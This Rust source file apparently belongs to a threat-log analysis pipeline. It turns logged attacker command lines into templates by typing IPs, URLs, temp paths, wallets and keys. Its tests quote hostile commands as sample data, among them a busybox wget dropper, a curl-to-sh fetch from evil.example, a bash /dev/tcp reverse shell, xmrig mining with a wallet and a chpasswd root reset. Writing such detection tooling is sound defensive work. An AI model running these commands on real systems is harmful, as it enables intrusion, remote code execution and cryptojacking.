//! command line → the same with its volatile parts typed: `wget -O <path:tmp> <url>`. Deliberately absent: contexts,
//! and anything that a second look at other lines would need: equal lines have equal templates, on any host.

use super::random::{is_random, is_shuffled};
use super::url::{self, Scheme};
use super::{host, tools, wallet};

/// A longer line's template is that of its beginning, and ` <more>`.
pub const MAX_LINE: usize = 4096;

/// Types the parts of a command line that differ from host to host and run to run.
///
/// White space is one space. A literal `<` that would read as a type is written `\<`. Cost: linear.
///
/// ```
/// # use ringleader_pipeline::extract::template::template;
/// assert_eq!(template("wget  -O /tmp/pty1 http://159.89.156.190/.y/pty1"), "wget -O /tmp/pty1 <url>");
/// assert_eq!(template("nc 192.0.2.7 4444"), "nc <ip> 4444");
/// assert_eq!(template("wmic /node:192.0.2.7 /user:anna /password:hunter2"), "wmic /node:<ip> /user:<user> /password:<secret>");
/// assert_eq!(template("masscan --rate=20000 -p80"), "masscan --rate=<num> -p80");
/// ```
pub fn template(text: &str) -> String {
    let end = text.floor_char_boundary(MAX_LINE);
    let mut out = String::with_capacity(end.min(256));
    let mut before = "";
    for (at, word) in text[..end].split_ascii_whitespace().enumerate() {
        if at > 0 {
            out.push(' ');
        }
        if is_plain(word.as_bytes()) {
            out.push_str(word);
        } else {
            type_word(word, before, at == 0, &mut out);
        }
        before = word;
    }
    if end < text.len() {
        out.push_str(" <more>");
    }
    out
}

/// Whether a word stays as it is, whatever stands before it: small letters and signs that begin no value, in pieces so
/// short that none can have been drawn. Most words of most lines.
fn is_plain(word: &[u8]) -> bool {
    let (mut class, mut piece) = (0, 0);
    for byte in word {
        let own = CLASS[usize::from(*byte)];
        class |= own;
        piece = if own == LETTER { piece + 1 } else { 0 };
        // Random names start at eight letters.
        class |= u8::from(piece == 8) << 7;
    }
    match class {
        ..=LETTER => true,
        SLASH..TYPED => {
            let quotes = word.iter().take_while(|it| LEAD.contains(it)).count();
            !FOLDERS.iter().any(|it| word[quotes..].starts_with(it))
        }
        TYPED.. => false,
    }
}

const LETTER: u8 = 1;
const SLASH: u8 = 2;
/// Digits, capitals, and whatever else a value may have.
const TYPED: u8 = 4;

static CLASS: [u8; 256] = {
    let mut table = [TYPED; 256];
    let mut b = 0;
    while b < 256 {
        match b as u8 {
            b'a'..=b'z' => table[b] = LETTER,
            b'-' | b'_' | b',' | b';' | b'|' | b'&' | b'>' | b'(' | b')' | b'{' | b'}' | b'[' | b']' | b'$' | b'!'
            | b'*' | b'"' | b'\'' | b'`' | b'~' | b'#' | b'?' => table[b] = 0,
            b'/' => table[b] = SLASH,
            _ => {}
        }
        b += 1;
    }
    table
};

/// What may stand before a word's value.
const LEAD: &[u8] = b"\"'(`";
/// Where a path is typed by its folder.
const FOLDERS: [&[u8]; 7] = [b"/tmp/", b"/var/tmp/", b"/dev/shm/", b"/run/", b"/var/run/", b"/home/", b"/users/"];

/// One word: whole where it is one value, else run by run.
fn type_word(word: &str, before: &str, is_program: bool, out: &mut String) {
    let (lead, core, tail) = unquoted(word);
    out.push_str(lead);
    if core.strip_prefix("./").is_some_and(is_shuffled) {
        // What was just made here and is run from here: droppers draw such names.
        out.push_str("./<rand>");
    } else if is_program {
        // The program stays as logged, unless its name was drawn at random.
        runs(core, Place { program: true, ..Place::default() }, out);
    } else if let Some(kind) = whole(core, before) {
        out.push_str(kind);
    } else if let Some(option) = numbered(core) {
        out.push_str(option);
        out.push_str("=<num>");
    } else if let Some((option, kind)) = credential(core) {
        out.push_str(option);
        out.push(':');
        out.push_str(kind);
    } else {
        runs(
            core,
            Place { after_key: before.starts_with("ssh-") || before.starts_with("ecdsa-"), ..Place::default() },
            out,
        );
    }
    out.push_str(tail);
}

/// The option of `--rate=12000`: its number differs from run to run, as that of `--rate 12000`.
fn numbered(word: &str) -> Option<&str> {
    let (option, number) = word.split_once('=').filter(|it| it.0.starts_with('-'))?;
    let plain = option.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'));
    (plain && number.len() >= 2 && number.bytes().all(|b| b.is_ascii_digit())).then_some(option)
}

/// The option of `/user:anna` and `/password:x`: what worked differs from host to host.
fn credential(word: &str) -> Option<(&str, &'static str)> {
    let (option, value) = word.split_once(':').filter(|it| it.0.starts_with('/') && !it.1.is_empty())?;
    let is = |names: &[&str]| names.iter().any(|it| option[1..].eq_ignore_ascii_case(it));
    // `/user:HOST\\anna` is an account of that host.
    let plain = value.bytes().all(|b| !matches!(b, b'/' | b'<'));
    match () {
        () if is(&["user", "username"]) && plain => Some((option, "<user>")),
        () if is(&["password", "pass", "pwd"]) => Some((option, "<secret>")),
        () => None,
    }
}

/// Splits quotes and separators off both ends.
fn unquoted(word: &str) -> (&str, &str, &str) {
    let from = word.find(|c| !matches!(c, '"' | '\'' | '(' | '`')).unwrap_or(word.len());
    let rest = &word[from..];
    let to = rest
        .rfind(|c| !matches!(c, '"' | '\'' | ')' | '`' | ';' | ',' | '|' | '&'))
        .map_or(0, |at| at + rest[at..].chars().next().map_or(0, char::len_utf8));
    (&word[..from], &rest[..to], &rest[to..])
}

/// What a whole word is.
fn whole(word: &str, before: &str) -> Option<&'static str> {
    let bytes = word.as_bytes();
    if bytes.is_empty() {
        return None;
    }
    if bytes.iter().all(u8::is_ascii_digit) {
        let kills = matches!(before, "kill" | "-9" | "-15" | "-KILL" | "renice" | "-p" | "--pid" | "-pid");
        // An option's number differs from run to run; a mode or a level of two digits without one does not.
        let option = before.len() > 1 && before.starts_with('-');
        return (bytes.len() >= 5 || (kills || option) && bytes.len() >= 2).then_some("<num>");
    }
    if is_time(bytes) {
        return Some("<time>");
    }
    // A loader asks busybox for an applet that cannot be, to see its answer: each draws its own.
    if before.ends_with("busybox") && bytes.len() >= 4 && bytes.iter().all(u8::is_ascii_uppercase) {
        return Some("<rand>");
    }
    if matches!(before, "+x" | "777" | "755" | "-rf" | "-f" | "-O" | "-o" | ">" | ">>") && is_shuffled(word) {
        return Some("<rand>");
    }
    if is_volatile_path(word) {
        return Some("<path:tmp>");
    }
    // The worker's name behind it differs from host to host.
    let (account, _worker) = word.split_once(['.', '/', '+']).unwrap_or((word, ""));
    wallet::wallet(account, true).filter(|it| it.len() == account.len()).map(|_| "<wallet>")
}

/// A path in a folder for temporary files whose name was made up.
fn is_volatile_path(word: &str) -> bool {
    let Some(rest) =
        ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/", "/var/run/"].iter().find_map(|it| word.strip_prefix(it))
    else {
        return false;
    };
    let plain =
        rest.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'/' | b'+' | b'%' | b'@'));
    plain && rest.split('/').any(is_made_up)
}

fn is_made_up(name: &str) -> bool {
    // mktemp's and Python's
    let drawn = name.strip_prefix("tmp.").or_else(|| name.strip_prefix("tmp"));
    drawn.is_some_and(|it| it.len() >= 6 && it.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'))
        || is_uuid(name.as_bytes())
        || is_shuffled(name)
        || name
            .split(|c: char| !c.is_ascii_alphanumeric())
            .any(|run| is_random(run) || longest_number(run.as_bytes()) >= LONG_NUMBER)
}

/// Digits that many are no version, port or size that all copies share.
const LONG_NUMBER: usize = 6;

fn longest_number(bytes: &[u8]) -> usize {
    bytes.split(|b| !b.is_ascii_digit()).map(<[u8]>::len).max().unwrap_or(0)
}

#[derive(Default, Clone, Copy)]
struct Place {
    program: bool,
    after_key: bool,
}

/// Types the parts of a word: URLs, addresses, names, keys, long numbers.
fn runs(text: &str, place: Place, out: &mut String) {
    let bytes = text.as_bytes();
    let mut at = home(text, out);
    let mut copied = at;
    let emit = |from: usize, to: usize, kind: &str, out: &mut String, copied: &mut usize| {
        escaped(&text[*copied..from], out);
        out.push_str(kind);
        *copied = to;
    };
    while at < bytes.len() {
        if !is_run(bytes[at]) {
            at += 1;
            continue;
        }
        let start = at;
        while at < bytes.len() && is_run(bytes[at]) {
            at += 1;
        }
        let end = start + text[start..at].trim_end_matches(|c: char| !c.is_ascii_alphanumeric()).len();
        if bytes[at..].starts_with(b"://")
            && let Some(found) = url::at(text, at)
        {
            if found.kind == Scheme::Url || found.kind == Scheme::Lookup || found.kind == Scheme::Pool {
                emit(found.start, found.end, "<url>", out, &mut copied);
            } else {
                emit(at + 3, found.end, "<url>", out, &mut copied);
            }
            at = found.end;
            continue;
        }
        if end == start {
            continue;
        }
        let run = &text[start..end];
        let after = bytes.get(end).copied();
        let before = start.checked_sub(1).map(|it| bytes[it]);
        if let Some(to) = key(text, start, place) {
            emit(
                start,
                to,
                if place.after_key || text[start..].starts_with("AAAA") { "<key>" } else { "<b64>" },
                out,
                &mut copied,
            );
            at = to;
            continue;
        }
        // user@host
        if bytes.get(at) == Some(&b'@') && !place.program {
            let length = bytes[at + 1..].iter().take_while(|b| is_run(**b)).count();
            let domain = text[at + 1..at + 1 + length].trim_end_matches(['.', '-', '_']);
            let to = at + 1 + domain.len();
            if bytes[start].is_ascii_alphanumeric()
                && bytes.get(to) != Some(&b':')
                && host::is_bare_domain(domain, None, bytes.get(to).copied())
            {
                emit(start, to, "<email>", out, &mut copied);
                at = to;
                continue;
            }
        }
        if let Some((to, kind)) = address(text, start, end, before) {
            emit(start, to, kind, out, &mut copied);
            at = to.max(at);
            continue;
        }
        if place.program {
            if is_made_up_program(run) {
                emit(start, end, "<rand>", out, &mut copied);
            }
            continue;
        }
        if run.contains('.') && host::is_bare_domain(run, before, after) {
            emit(start, end, "<domain>", out, &mut copied);
            continue;
        }
        if is_uuid(run.as_bytes()) {
            emit(start, end, "<rand>", out, &mut copied);
            continue;
        }
        if is_time(run.as_bytes()) {
            emit(start, end, "<time>", out, &mut copied);
            continue;
        }
        // piece by piece: `.systemcache436621`, `worker-7f3a9c1e`
        let mut from = start;
        for piece in run.split(['.', '-', '_']) {
            let to = from + piece.len();
            if let Some(kind) = token(piece) {
                emit(from, to, kind, out, &mut copied);
            } else if after_tmp(text, from) && piece.len() >= 6 {
                emit(from, to, "<rand>", out, &mut copied);
            } else if longest_number(piece.as_bytes()) >= LONG_NUMBER {
                let mut digits = from;
                while digits < to {
                    let length = bytes[digits..to].iter().take_while(|b| b.is_ascii_digit()).count();
                    if length >= LONG_NUMBER {
                        emit(digits, digits + length, "<num>", out, &mut copied);
                    }
                    digits += length.max(1);
                }
            }
            from = to + 1;
        }
    }
    escaped(&text[copied..], out);
}

fn is_run(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_')
}

/// `tmp.` stands before.
fn after_tmp(text: &str, at: usize) -> bool {
    text[..at].ends_with("tmp.")
}

fn is_made_up_program(run: &str) -> bool {
    tools::tool(run.as_bytes()).is_none() && (is_uuid(run.as_bytes()) || run.split(['.', '-', '_']).any(is_random))
}

/// A person's folder: `/home/alice`, `C:\Users\alice`. Gives where the rest goes on.
fn home(text: &str, out: &mut String) -> usize {
    for (prefix, separator) in
        [("/home/", '/'), ("/Users/", '/'), ("C:\\Users\\", '\\'), ("C:\\Documents and Settings\\", '\\')]
    {
        if let Some(rest) =
            text.get(..prefix.len()).filter(|it| it.eq_ignore_ascii_case(prefix)).map(|_| &text[prefix.len()..])
        {
            let name = rest.find(separator).unwrap_or(rest.len());
            let plain = name > 0 && rest[..name].bytes().all(|b| is_run(b) || b == b' ');
            if plain && !matches!(&rest[..name], "Public" | "Default") {
                out.push_str("<path:home>");
                return prefix.len() + name;
            }
        }
    }
    0
}

/// `<ip>`, `<ip_port>`.
fn address(text: &str, start: usize, end: usize, before: Option<u8>) -> Option<(usize, &'static str)> {
    let bytes = text.as_bytes();
    if !bytes[start].is_ascii_digit() || before.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_') {
        return None;
    }
    // A version after a name (`Chrome/120.0.0.0`, `pkg==1.2.3.4`) stays.
    if matches!(before, Some(b'/'))
        && start >= 2
        && bytes[start - 2].is_ascii_alphanumeric()
        && bytes.get(end) != Some(&b'/')
        || text[..start].ends_with("==")
    {
        return None;
    }
    host::dotted_quad(&bytes[start..end])?;
    let digits = match bytes.get(end) {
        Some(b':') => bytes[end + 1..].iter().take(6).take_while(|b| b.is_ascii_digit()).count(),
        _ => 0,
    };
    if (1..=5).contains(&digits) { Some((end + 1 + digits, "<ip_port>")) } else { Some((end, "<ip>")) }
}

/// A long token's own type.
fn token(piece: &str) -> Option<&'static str> {
    let bytes = piece.as_bytes();
    if bytes.len() < 8 {
        return None;
    }
    if matches!(bytes.len(), 32 | 40 | 64 | 128)
        && bytes.iter().all(u8::is_ascii_hexdigit)
        && bytes.iter().any(u8::is_ascii_alphabetic)
    {
        return Some("<hash>");
    }
    if bytes.len() >= 26 && wallet::wallet(piece, true).is_some() {
        return Some("<wallet>");
    }
    if bytes.iter().all(u8::is_ascii_digit) {
        return Some("<num>");
    }
    is_random(piece).then_some("<rand>")
}

/// Base64: a public key's body, or a long token that no path or name looks like. Gives where it ends.
fn key(text: &str, start: usize, place: Place) -> Option<usize> {
    let bytes = text.as_bytes();
    if start > 0 && matches!(bytes[start - 1], b'+' | b'/' | b'=') && !text[..start].ends_with("Base64/") {
        return None;
    }
    let length = bytes[start..].iter().take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/')).count();
    if length < 24 {
        return None;
    }
    let padding = bytes[start + length..].iter().take(2).take_while(|b| **b == b'=').count();
    let body = &bytes[start..start + length];
    let has = |class: fn(&u8) -> bool| body.iter().any(class);
    let mixed = has(u8::is_ascii_uppercase) && has(u8::is_ascii_lowercase);
    let digits = body.iter().filter(|b| b.is_ascii_digit()).count();
    let slashes = body.iter().filter(|b| **b == b'/').count();
    let dense = mixed && digits * 24 >= length && slashes * 12 <= length;
    // A wallet or hash is typed as what it is.
    let named = matches!(length, 32 | 40 | 64 | 95 | 106)
        && (body.iter().all(u8::is_ascii_hexdigit) || wallet::wallet(&text[start..start + length], false).is_some());
    (!named && (place.after_key && body.starts_with(b"AAAA") || padding > 0 && mixed || dense && length >= 32))
        .then_some(start + length + padding)
}

fn is_uuid(bytes: &[u8]) -> bool {
    bytes.len() == 36
        && bytes
            .iter()
            .enumerate()
            .all(|(at, b)| if matches!(at, 8 | 13 | 18 | 23) { *b == b'-' } else { b.is_ascii_hexdigit() })
}

/// `2019-11-04`, `08:21:40`, `2019-11-04T08:21:40.27Z`, `2019/11/04`.
fn is_time(bytes: &[u8]) -> bool {
    let shape = |pattern: &[u8]| {
        bytes.len() >= pattern.len()
            && bytes.iter().zip(pattern).all(|(b, p)| if *p == b'0' { b.is_ascii_digit() } else { b == p })
    };
    let rest_is_time = |from: usize| {
        bytes[from..].iter().all(|b| b.is_ascii_digit() || matches!(b, b':' | b'.' | b'T' | b'Z' | b'+' | b'-'))
    };
    (shape(b"0000-00-00") || shape(b"0000/00/00")) && matches!(bytes[0], b'1' | b'2') && rest_is_time(10)
        || shape(b"00:00:00") && rest_is_time(8)
}

/// Copies text, so that nothing in it reads as a type.
fn escaped(text: &str, out: &mut String) {
    let mut rest = text;
    while let Some(at) = rest.find('<') {
        out.push_str(&rest[..at]);
        if reads_as_type(&rest[at..]) {
            out.push('\\');
        }
        out.push('<');
        rest = &rest[at + 1..];
    }
    out.push_str(rest);
}

fn reads_as_type(text: &str) -> bool {
    let bytes = text.as_bytes();
    if !bytes.get(1).is_some_and(u8::is_ascii_lowercase) {
        return false;
    }
    let name = bytes[1..]
        .iter()
        .take_while(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'_' | b'-'))
        .count();
    match bytes.get(1 + name) {
        Some(b'>') => true,
        Some(b':') => bytes[2 + name..]
            .iter()
            .position(|b| *b == b'>')
            .is_some_and(|end| end > 0 && !bytes[2 + name..2 + name + end].contains(&b'<')),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, want: &str) {
        assert_eq!(template(text), want, "{text}");
    }

    #[test]
    fn the_talks_script() {
        check(
            "/bin/busybox wget -O /tmp/pty1 http://159.89.156.190/.y/pty1;\n  chmod +x /tmp/pty1; chmod 700 /tmp/pty1; /tmp/pty1; cp /bin/busybox /tmp/loop1",
            "/bin/busybox wget -O /tmp/pty1 <url>; chmod +x /tmp/pty1; chmod 700 /tmp/pty1; /tmp/pty1; cp /bin/busybox /tmp/loop1",
        );
    }

    #[test]
    fn volatile_parts_are_typed() {
        check("curl -fsSL http://evil.example:8080/a.sh?x=1|sh", "curl -fsSL <url>|sh");
        check("/tmp/xmrig -o stratum+tcp://pool.example:3333 -u x", "/tmp/xmrig -o <url> -u x");
        check("nc 192.0.2.1 4444; telnet 192.0.2.1:23", "nc <ip> 4444; telnet <ip_port>");
        check("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "bash -i >& /dev/tcp/<ip>/4444 0>&1");
        check("ping -c 1 c2.evil.example", "ping -c 1 <domain>");
        check("mail boss@evil.example", "mail <email>");
        check("kill -9 1234; kill -9 31337", "kill -9 <num>; kill -9 <num>");
        check("rm -rf /var/tmp/.var03522123 /tmp/tmp.AbCdEfGhIj/x /tmp/x1", "rm -rf <path:tmp> <path:tmp> /tmp/x1");
        check(
            "scp -t /tmp/Nrx68rDo; /tmp/eAKYwKHg /tmp/MyApp /tmp/update2",
            "scp -t <path:tmp>; <path:tmp> /tmp/MyApp /tmp/update2",
        );
        check("cat /opt/.systemcache436621 /opt/tmp.Qwertz12ab", "cat /opt/.systemcache<num> /opt/tmp.<rand>");
        check("sh /home/alice/.x/run C:\\Users\\bob\\x.exe", "sh <path:home>/.x/run <path:home>\\x.exe");
        check("id 123e4567-e89b-12d3-a456-426614174000", "id <rand>");
        check("md5 d41d8cd98f00b204e9800998ecf8427e", "md5 <hash>");
        check("echo 'root:GSZYg4u6KsHM'|chpasswd", "echo 'root:<rand>'|chpasswd");
        check("echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3o= | base64 -d", "echo <b64> | base64 -d");
        check("echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 x", "echo ssh-rsa <key> x");
        check("touch -d 2019-11-04 08:21:40", "touch -d <time> <time>");
        check("/bin/eyshcjdmzg \"cat resolv.conf\" 1105", "/bin/<rand> \"cat resolv.conf\" 1105");
        check(
            "-u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A.w1",
            "-u <wallet>",
        );
        check("/bin/busybox ECCHI", "/bin/busybox <rand>");
        check("miner -t 101", "miner -t <num>");
        check("chmod +x LK868Il5", "chmod +x <rand>");
    }

    #[test]
    fn what_all_copies_share_stays() {
        for text in [
            "/tmp/kdevtmpfsi",
            "chmod 777 pty1",
            "head -n 1",
            "ps -ef",
            "/usr/lib/x86_64-linux-gnu/libc.so.6",
            "pip install requests==2.31.0.1",
            "Chrome/120.0.0.0",
            "sleep 15s",
            "./x86_64 roots",
            "java com.example.app.Main",
            "tar xzf node-v18.1.0.tar.gz",
            "cat a>b",
            "",
        ] {
            check(text, text);
        }
    }

    #[test]
    fn what_is_plain_stays_as_it_is() {
        let words = "/usr/lib/apt --log-format '/tmp/tmpabcdef' /home/a (/home/a) /users/b `/run/x/tmpabcdef` sh -c \
                     \"/dev/shm/tmpabcdef\" /tmp/tmpabcdef;/x {a,b} $(x) |& a_b-c>d & zxqvjkwqpz abcdefg/hijklmn";
        for (at, word) in words.split(' ').enumerate() {
            for before in ["", "busybox", "-o", "ssh-rsa", "kill"] {
                let mut typed = String::new();
                type_word(word, before, at == 0, &mut typed);
                assert!(!is_plain(word.as_bytes()) || typed == word, "{word} {typed}");
            }
        }
        let plain: Vec<&str> = words.split(' ').filter(|it| is_plain(it.as_bytes())).collect();
        let expect =
            ["/usr/lib/apt", "--log-format", "sh", "-c", "{a,b}", "$(x)", "|&", "a_b-c>d", "&", "abcdefg/hijklmn"];
        assert_eq!(plain, expect);
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(8192))]
        #[test]
        fn a_plain_word_is_typed_as_itself(
            lead in r#"["'(`]{0,2}"#,
            folder in "(/tmp/|/var/tmp/|/dev/shm/|/run/|/var/run/|/home/|/users/|/usr/|tmp.|)",
            word in r#"[a-f]{0,9}[-_/=.:]{0,1}[a-z]{0,9}[-a-z/_,;|&>(){}$!*"'`~#?]{0,30}|\PC{0,12}"#,
            before in "(busybox|-o|-O|kill|-9|ssh-rsa|ecdsa-x|>|)",
            is_program in proptest::bool::ANY,
        ) {
            let word: String = format!("{lead}{folder}{word}").split_ascii_whitespace().collect();
            if is_plain(word.as_bytes()) {
                let mut typed = String::new();
                type_word(&word, &before, is_program, &mut typed);
                proptest::prop_assert_eq!(typed, word);
            }
        }
    }

    #[test]
    fn a_literal_type_is_escaped() {
        check("echo <url> <x> <path:tmp> a<b <B> <", "echo \\<url> \\<x> \\<path:tmp> a<b <B> <");
        check("cat <<EOF <file> x", "cat <<EOF \\<file> x");
    }

    #[test]
    fn a_long_line_ends_with_more() {
        let line = format!("echo {}", "ä ".repeat(5000));
        let got = template(&line);
        assert!(got.ends_with(" ä <more>") && got.len() <= MAX_LINE + 8);
        assert_eq!(template(&"x".repeat(MAX_LINE)), "x".repeat(MAX_LINE));
    }
}
